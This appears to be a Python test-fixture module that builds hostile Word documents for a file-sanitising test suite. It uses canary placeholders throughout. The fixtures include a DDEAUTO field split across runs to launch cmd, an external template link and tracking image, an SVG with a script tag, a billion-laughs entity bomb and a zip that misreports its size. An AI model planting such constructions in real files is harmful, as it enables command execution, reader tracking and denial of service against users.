"""Word files that act, tell, climb or swell."""

import struct

from tests.accounts.vault.hostile_pictures import (
    CANARY,
    MARK,
    SEEN,
    exif,
    picture,
    zipped,
)

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
MAIN = f"{WORD}document.main+xml"


def relations(*rows: tuple[str, str, str]) -> bytes:
    """Kind, target, mode; their ids are rId1, rId2..."""
    lines = "".join(
        f'<Relationship Id="rId{number}" Type="{R}/{kind}" Target="{target}"{mode and f' TargetMode="{mode}"'}/>'
        for number, (kind, target, mode) in enumerate(rows, 1)
    )
    return f'<Relationships xmlns="{RELATIONS}">{lines}</Relationships>'.encode()


def docx(body: str = "", main: str = MAIN, declared: str = "", head: str = "", **parts: bytes) -> bytes:
    """A document that shows SEEN; `parts` by name with __ for / and _ for a dot."""
    text = f"<w:p><w:r><w:t>{SEEN}</w:t></w:r></w:p>{body}"
    types = (
        f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        f'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="jpg" '
        f'ContentType="image/jpeg"/><Override PartName="/word/document.xml" ContentType="{main}"/>{declared}</Types>'
    )
    whole = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": (
            f'{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{text}</w:body></w:document>'.encode()
        ),
    }
    return zipped(whole | parts)


RELS = "word/_rels/document.xml.rels"


def linked(body: str, *rows: tuple[str, str, str], **parts: bytes) -> bytes:
    return docx(body, **{RELS: relations(*rows)}, **parts)


def docx_with_everything_that_tells() -> bytes:
    body = (
        f"<!-- {CANARY} --><?note {CANARY}?>"
        f'<w:p w:rsidR="{CANARY}"><w:ins w:author="{CANARY}" w:date="2026-01-01T00:00:00Z">'
        "<w:r><w:t>new</w:t></w:r></w:ins></w:p>"
        '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>'
    )
    settings = (
        f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/><w:rsids><w:rsid w:val="{CANARY}"/>'
        '</w:rsids><w:compat><w:compatSetting w:name="compatibilityMode" w:uri="u" w:val="15"/></w:compat></w:settings>'
    )
    parts = {
        "docProps/core.xml": MARK,
        "docProps/app.xml": MARK,
        "customXml/item1.xml": MARK,
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": relations(("attachedTemplate", f"http://{CANARY}.test/t.dotm", "External")),
    }
    rows = [("settings", "settings.xml", ""), ("customXml", "../customXml/item1.xml", "")]
    return linked(body, *rows, ("hyperlink", f"file:///c:/{CANARY}.exe", "External"), **parts)


def docx_with_pictures() -> bytes:
    """One with the place it was taken at, one that is fetched from a server which then knows who reads."""
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    body = "".join(
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{a}" r:{how}="rId{number}"/></w:drawing></w:r></w:p>'
        for how, number in (("embed", 1), ("link", 2), ("embed", 3))
    )
    parts = {
        "word/media/image1.jpg": picture("JPEG", exif=exif(), comment=MARK),
        "word/media/image3.svg": f"<svg><script>{CANARY}</script></svg>".encode(),
    }
    rows = [("image", "media/image1.jpg", ""), ("image", f"http://{CANARY}.test/a.png", "External")]
    return linked(body, *rows, ("image", "media/image3.svg", ""), **parts)


def docx_with_fields() -> bytes:
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
        f'<w:r><w:instrText>EAUTO cmd "/k {CANARY}"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>12</w:t></w:r>'
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr="INCLUDETEXT {CANARY}"><w:r>'
        "<w:t>34</w:t></w:r></w:fldSimple></w:p>"
    )
    return docx(body)


def billion_laughs() -> bytes:
    rows = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))]
    return docx("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", head=f"<!DOCTYPE d [{''.join(rows)}]>")


def zip_that_lies() -> bytes:
    """It says that a part has ten letters, and unpacks to a hundred thousand."""
    whole = docx(**{"word/styles.xml": bytes(100_000), RELS: relations(("styles", "styles.xml", ""))})
    return whole.replace(struct.pack("<I", 100_000), struct.pack("<I", 10))
